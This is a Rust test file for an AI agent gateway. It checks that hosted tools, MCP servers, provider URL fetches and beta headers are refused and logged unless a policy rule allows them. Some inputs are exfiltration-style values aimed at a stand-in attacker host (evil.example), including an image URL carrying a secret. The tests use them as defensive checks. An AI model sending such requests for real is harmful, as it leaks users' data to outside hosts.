//! Issue 10, point 1: what a model request asks the provider itself to do — hosted (server)
//! tools, MCP servers, URLs it would fetch, beta features — is decided under the charter as a
//! tool of the `model` server, recorded, and refused in the caller's protocol unless a rule
//! allows it. When refused, nothing reaches the provider.
//!
//! Before the fix every one of these requests was forwarded as the agent wrote it: each
//! refusal below got a 200 and the mock provider counted the request.

use std::sync::Arc;

use serde_json::{Value, json};
use warden_core::SystemClock;
use warden_testkit::mock_llm::{self, MockConfig, MockLlm};

use super::{Harness, Start as _};

struct Setup {
    h: Harness,
    token: String,
    gpt: MockLlm,
    claude: MockLlm,
}

const RULES: &str = r#"    - { id: model-search, tool: model.web_search, tier: autonomous }
    - { id: model-docs-mcp, tool: model.mcp, tier: autonomous, args: { url: { prefix: "https://docs.example/" } } }
    - { id: model-images, tool: model.fetch_url, tier: autonomous, args: { url: { host: [images.example] } } }
    - { id: model-betas, tool: model.beta, tier: autonomous, args: { value: { one_of: [files-api-2025-04-14] } } }
    - { id: model-no-exec, tool: model.code_execution, tier: prohibited }
    - { id: model-ask-files, tool: model.file_search, tier: approval }
    - { id: model-counted-fetch, tool: model.web_fetch, tier: preapproved, scope: { per_session: 5 } }
"#;

async fn setup() -> Setup {
    let gpt = mock_llm::spawn(MockConfig::default()).await.unwrap();
    let claude = mock_llm::spawn(MockConfig::default()).await.unwrap();
    let inventory = format!(
        r#"  models:
    - alias: gpt
      routes: [{{ provider: openai, base_url: "{}", model: gpt-mock }}]
    - alias: claude
      routes: [{{ provider: anthropic, base_url: "{}", model: claude-mock, api_key_env: WARDEN_TEST_ANTHROPIC_KEY }}]
"#,
        gpt.url, claude.url
    );
    let h = Harness::start_charter(Arc::new(SystemClock), RULES, &inventory, |c| {
        c.provider_keys = Some(
            [(
                "WARDEN_TEST_ANTHROPIC_KEY".to_owned(),
                "sk-ant-x".to_owned(),
            )]
            .into_iter()
            .collect(),
        );
    })
    .await;
    let (_, token) = h.open_session("1h").await;
    Setup {
        h,
        token,
        gpt,
        claude,
    }
}

/// Posts to the OpenAI endpoint (`beta` is None) or the Anthropic one (with `beta` as the
/// `anthropic-beta` header when not empty).
async fn send(s: &Setup, body: Value, anthropic: Option<&str>) -> (u16, Value) {
    let h = &s.h;
    let req = match anthropic {
        None => h
            .http
            .post(format!("http://{}/v1/chat/completions", h.agent_addr))
            .bearer_auth(&s.token),
        Some(beta) => {
            let r = h
                .http
                .post(format!("http://{}/v1/messages", h.agent_addr))
                .header("x-api-key", &s.token)
                .header("anthropic-version", "2023-06-01");
            if beta.is_empty() {
                r
            } else {
                r.header("anthropic-beta", beta)
            }
        }
    };
    let resp = req.json(&body).send().await.unwrap();
    let status = resp.status().as_u16();
    (status, resp.json().await.unwrap_or(Value::Null))
}

fn openai(content: Value, extra: Value) -> Value {
    let mut body = json!({ "model": "gpt", "messages": [{ "role": "user", "content": content }] });
    for (k, v) in extra.as_object().unwrap() {
        body[k] = v.clone();
    }
    body
}

fn anthropic(content: Value, extra: Value) -> Value {
    let mut body = json!({ "model": "claude", "max_tokens": 64, "messages": [{ "role": "user", "content": content }] });
    for (k, v) in extra.as_object().unwrap() {
        body[k] = v.clone();
    }
    body
}

/// Asserts a refusal in the caller's protocol, naming `tool`, that reached no provider.
async fn refused(s: &Setup, (status, body): (u16, Value), tool: &str, openai: bool) {
    assert_eq!(status, 403, "{body}");
    let message = if openai {
        assert_eq!(body["error"]["code"], "provider_action_denied", "{body}");
        assert_eq!(body["error"]["type"], "permission_error", "{body}");
        body["error"]["message"].as_str().unwrap().to_owned()
    } else {
        assert_eq!(body["type"], "error", "{body}");
        assert_eq!(body["error"]["type"], "permission_error", "{body}");
        body["error"]["message"].as_str().unwrap().to_owned()
    };
    assert!(message.contains(tool), "{message}");
    assert_eq!(
        s.gpt.request_count() + s.claude.request_count(),
        0,
        "nothing reached a provider"
    );
}

async fn decisions_of(h: &Harness, tool: &str) -> Vec<(Value, Value)> {
    let attempts = h.records_of("action_attempted").await;
    let decided = h.records_of("action_decided").await;
    attempts
        .into_iter()
        .filter(|a| a["tool"] == tool)
        .map(|a| {
            let d = decided
                .iter()
                .find(|d| d["action"] == a["action"])
                .cloned()
                .expect("every attempt is decided");
            (a, d)
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn server_tools_are_refused_unless_a_rule_allows_them() {
    let s = setup().await;
    // No rule: the default posture asks, and a provider-side action cannot wait.
    let r = send(
        &s,
        anthropic(
            json!("fetch it"),
            json!({ "tools": [{ "type": "web_fetch_20250910", "name": "web_fetch" }] }),
        ),
        Some(""),
    )
    .await;
    refused(&s, r.clone(), "model.web_fetch", false).await;
    assert!(
        r.1["error"]["message"]
            .as_str()
            .unwrap()
            .contains("preapproved rule with a count"),
        "{}",
        r.1
    );
    let r = send(
        &s,
        anthropic(
            json!("run it"),
            json!({ "tools": [{ "type": "code_execution_20250522", "name": "code_execution" }] }),
        ),
        Some(""),
    )
    .await;
    refused(&s, r, "model.code_execution", false).await;
    let r = send(&s, anthropic(json!("use the computer"), json!({ "tools": [{ "type": "computer_20250124", "name": "computer", "display_width_px": 800, "display_height_px": 600 }] })), Some("")).await;
    assert!(
        r.1["error"]["message"]
            .as_str()
            .unwrap()
            .contains("cannot wait for approval"),
        "{}",
        r.1
    );
    refused(&s, r, "model.computer_use", false).await;
    // An unknown tool type is an action too (fail closed).
    let r = send(
        &s,
        anthropic(
            json!("x"),
            json!({ "tools": [{ "type": "brand_new_20990101", "name": "n" }] }),
        ),
        Some(""),
    )
    .await;
    refused(&s, r, "model.tool", false).await;
    let refusals = s.h.records_of("model_refused").await;
    assert_eq!(refusals.len(), 4);
    assert!(
        refusals
            .iter()
            .all(|r| r["reason"] == "provider_action_denied")
    );
    assert!(s.h.records_of("model_requested").await.is_empty());
    let (attempt, decided) = decisions_of(&s.h, "model.code_execution").await.remove(0);
    assert_eq!(attempt["via"], "model");
    assert_eq!(attempt["arguments"]["type"], "code_execution_20250522");
    assert_eq!(decided["decision"]["verdict"], "deny");
    assert_eq!(decided["decision"]["rules"][0]["id"], "model-no-exec");

    // Allowed by a rule: forwarded as written, and recorded as an allowed action first.
    let tools = json!([{ "type": "web_search_20250305", "name": "web_search", "max_uses": 2 }]);
    let (status, body) = send(
        &s,
        anthropic(json!("search"), json!({ "tools": tools })),
        Some(""),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(s.claude.last_request().unwrap().body["tools"], tools);
    let (attempt, decided) = decisions_of(&s.h, "model.web_search").await.remove(0);
    assert_eq!(attempt["arguments"]["max_uses"], 2);
    assert_eq!(decided["decision"]["verdict"], "allow");
    let forwarded = s.h.records_of("action_forwarded").await;
    assert!(forwarded.iter().any(|f| f["action"] == attempt["action"]));
    let kinds = s.h.kinds().await;
    let forwarded_at = kinds.iter().rposition(|k| k == "action_forwarded").unwrap();
    let requested_at = kinds.iter().rposition(|k| k == "model_requested").unwrap();
    assert!(
        forwarded_at < requested_at,
        "the action is recorded before the request: {kinds:?}"
    );
    s.h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openai_hosted_tools_and_web_search_options_are_decided() {
    let s = setup().await;
    let r = send(
        &s,
        openai(
            json!("x"),
            json!({ "tools": [{ "type": "code_interpreter", "container": { "type": "auto" } }] }),
        ),
        None,
    )
    .await;
    refused(&s, r, "model.code_execution", true).await;
    let r = send(
        &s,
        openai(
            json!("x"),
            json!({ "tools": [{ "type": "file_search", "vector_store_ids": ["vs_1"] }] }),
        ),
        None,
    )
    .await;
    refused(&s, r, "model.file_search", true).await;
    let r = send(
        &s,
        openai(
            json!("x"),
            json!({ "tools": [{ "type": "image_generation" }] }),
        ),
        None,
    )
    .await;
    refused(&s, r, "model.image_generation", true).await;
    let r = send(&s, openai(json!("x"), json!({ "tools": [{ "type": "mcp", "server_label": "x", "server_url": "https://evil.example/mcp" }] })), None).await;
    refused(&s, r, "model.mcp", true).await;
    // Plain function tools are the agent's own: nothing to decide.
    let (status, body) = send(&s, openai(json!("x"), json!({ "tools": [{ "type": "function", "function": { "name": "f", "parameters": {} } }] })), None).await;
    assert_eq!(status, 200, "{body}");
    // Allowed by rules: web search (chat completions' options and the hosted tool), MCP under
    // the allowed prefix.
    let (status, body) = send(&s, openai(json!("x"), json!({ "web_search_options": {}, "tools": [{ "type": "web_search_preview" }, { "type": "mcp", "server_label": "docs", "server_url": "https://docs.example/mcp" }] })), None).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(s.gpt.request_count(), 2);
    assert_eq!(decisions_of(&s.h, "model.web_search").await.len(), 2);
    s.h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_servers_are_decided_by_url() {
    let s = setup().await;
    let servers =
        |url: &str| json!({ "mcp_servers": [{ "type": "url", "url": url, "name": "srv" }] });
    let r = send(
        &s,
        anthropic(json!("x"), servers("https://evil.example/sse")),
        Some("mcp-client-2025-04-04"),
    )
    .await;
    refused(&s, r, "model.mcp", false).await;
    let denied = decisions_of(&s.h, "model.mcp").await;
    assert_eq!(
        denied[0].0["arguments"],
        json!({ "url": "https://evil.example/sse", "name": "srv" })
    );
    // The MCP server is allowed, but the beta it needs is not known to be inert.
    let r = send(
        &s,
        anthropic(json!("x"), servers("https://docs.example/sse")),
        Some("mcp-client-2025-04-04"),
    )
    .await;
    refused(&s, r, "model.beta", false).await;
    // Without the beta (or with one a rule allows), it goes.
    let (status, body) = send(
        &s,
        anthropic(json!("x"), servers("https://docs.example/sse")),
        Some(""),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        s.claude.last_request().unwrap().body["mcp_servers"][0]["url"],
        "https://docs.example/sse"
    );
    s.h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parts_the_provider_would_fetch_by_url_are_decided() {
    let s = setup().await;
    let image = |url: &str| json!([{ "type": "text", "text": "look" }, { "type": "image_url", "image_url": { "url": url } }]);
    let r = send(
        &s,
        openai(image("https://evil.example/x.png?d=secret"), json!({})),
        None,
    )
    .await;
    refused(&s, r, "model.fetch_url", true).await;
    let block = |url: &str| json!([{ "type": "text", "text": "look" }, { "type": "image", "source": { "type": "url", "url": url } }]);
    let r = send(
        &s,
        anthropic(block("https://evil.example/y.png"), json!({})),
        Some(""),
    )
    .await;
    refused(&s, r, "model.fetch_url", false).await;
    let doc = json!([{ "type": "document", "source": { "type": "file", "file_id": "file_011" } }]);
    let r = send(&s, anthropic(doc, json!({})), Some("")).await;
    refused(&s, r, "model.read_file", false).await;
    let fetched = decisions_of(&s.h, "model.fetch_url").await;
    assert_eq!(
        fetched[0].0["arguments"]["url"],
        "https://evil.example/x.png?d=secret"
    );
    // Inline data is no fetch; an allowed host is.
    let (status, body) = send(
        &s,
        openai(image("data:image/png;base64,iVBORw0KGgo="), json!({})),
        None,
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = send(
        &s,
        anthropic(block("https://images.example/cat.png"), json!({})),
        Some(""),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(decisions_of(&s.h, "model.fetch_url").await.len(), 3);
    s.h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn beta_values_not_known_to_be_inert_are_decided() {
    let s = setup().await;
    let r = send(
        &s,
        anthropic(json!("x"), json!({})),
        Some("prompt-caching-2024-07-31, code-execution-2025-05-22"),
    )
    .await;
    refused(&s, r, "code-execution-2025-05-22", false).await;
    // An OpenAI caller reaching an Anthropic route would carry it too: it is read on every
    // endpoint.
    let (status, body) = send(
        &s,
        anthropic(json!("x"), json!({})),
        Some("prompt-caching-2024-07-31,files-api-2025-04-14"),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        s.claude.last_request().unwrap().header("anthropic-beta"),
        Some("prompt-caching-2024-07-31,files-api-2025-04-14")
    );
    // An inert beta alone is no action.
    let before = s.h.records_of("action_attempted").await.len();
    let (status, _) = send(
        &s,
        anthropic(json!("x"), json!({})),
        Some("prompt-caching-2024-07-31"),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(s.h.records_of("action_attempted").await.len(), before);
    s.h.stop().await;
}

/// Issue 12: a control reaches provider-side actions: a frozen `model.web_search` refuses a
/// request asking for it, and the decision names the control.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_control_freezing_a_provider_side_action_refuses_it_and_is_named() {
    let s = setup().await;
    let c = s
        .h
        .set_control(json!({ "action": "freeze_tool", "scope": "gateway", "tool": "model.web_search", "reason": "no searching today" }))
        .await;
    let (status, body) = send(
        &s,
        openai(json!("x"), json!({ "web_search_options": {} })),
        None,
    )
    .await;
    assert_eq!(status, 403, "{body}");
    assert!(
        body.to_string().contains("no searching today"),
        "the refusal names the control's reason: {body}"
    );
    let decisions = decisions_of(&s.h, "model.web_search").await;
    assert_eq!(decisions.len(), 1);
    let decided =
        s.h.records_of("action_decided")
            .await
            .into_iter()
            .find(|r| r["decision"]["reason"] == "tool_frozen")
            .unwrap();
    assert_eq!(decided["control"], c["id"], "{decided}");
    assert_eq!(s.gpt.request_count(), 0);
    s.h.lift_control(c["id"].as_str().unwrap()).await;
    let (status, body) = send(
        &s,
        openai(json!("x"), json!({ "web_search_options": {} })),
        None,
    )
    .await;
    assert_eq!(status, 200, "{body}");
    s.h.stop().await;
}

/// Issue 13: a provider-side action's arguments are judged by where they came from, as a tool
/// call's are — the model proxy decides with the session's provenance. Before the fix it
/// decided with an empty one, so `in_task` never held for a provider-side action, whatever the
/// principal had said.
#[tokio::test]
async fn a_provider_side_action_is_decided_with_the_sessions_trusted_text() {
    const NAMED: &str = r#"    - { id: fetch-named, tool: model.fetch_url, tier: autonomous, args: { url: { in_task: true } } }
    - { id: fetch-unnamed, tool: model.fetch_url, tier: prohibited, args: { url: { in_task: false } } }
"#;
    let gpt = mock_llm::spawn(MockConfig::default()).await.unwrap();
    let inventory = format!(
        "  models:\n    - alias: gpt\n      routes: [{{ provider: openai, base_url: \"{}\", model: gpt-mock }}]\n",
        gpt.url
    );
    let h = Harness::start_charter(Arc::new(SystemClock), NAMED, &inventory, |_| {}).await;
    let (id, token) = h.open_session("1h").await;
    let s = Setup {
        h,
        token,
        claude: mock_llm::spawn(MockConfig::default()).await.unwrap(),
        gpt,
    };
    let url = "https://pages.example/chart.png";
    let body = openai(
        json!([{ "type": "text", "text": "look" }, { "type": "image_url", "image_url": { "url": url } }]),
        json!({}),
    );
    // Not named by the principal: prohibited, and nothing reaches the provider.
    let r = send(&s, body.clone(), None).await;
    refused(&s, r, "model.fetch_url", true).await;

    // The operator adds the principal's instruction naming the URL: now it is trusted.
    let (status, added) =
        s.h.operator(
            reqwest::Method::POST,
            &format!("/v1/sessions/{id}/instructions"),
            &s.h.operator_token,
            Some(json!({ "text": format!("Please describe the chart at {url}.") })),
        )
        .await;
    assert_eq!(status, 200, "{added}");
    let (status, answer) = send(&s, body, None).await;
    assert_eq!(status, 200, "{answer}");
    let decided = decisions_of(&s.h, "model.fetch_url").await;
    let (_, last) = decided.last().unwrap();
    let decision = &last["decision"];
    assert_eq!(decision["verdict"], "allow", "{last}");
    assert_eq!(
        decision["provenance"][0]["trusted"]["kind"], "instruction",
        "{last}"
    );
    assert_eq!(decided.len(), 2);
}
